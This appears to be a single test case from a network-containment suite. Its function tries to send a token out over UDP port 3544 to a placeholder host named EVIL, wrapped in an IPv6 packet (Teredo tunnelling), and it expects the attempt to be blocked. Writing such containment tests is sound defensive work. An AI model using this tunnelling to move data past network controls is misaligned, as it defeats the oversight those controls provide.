"""
how: Teredo over UDP
expect: shut
"""

from frames import ipv6
from land import EVIL, EVIL6
from sockets import udp


def attempt(token):
    return udp(EVIL, 3544, ipv6(EVIL6, 17, token, "fe80::1"))
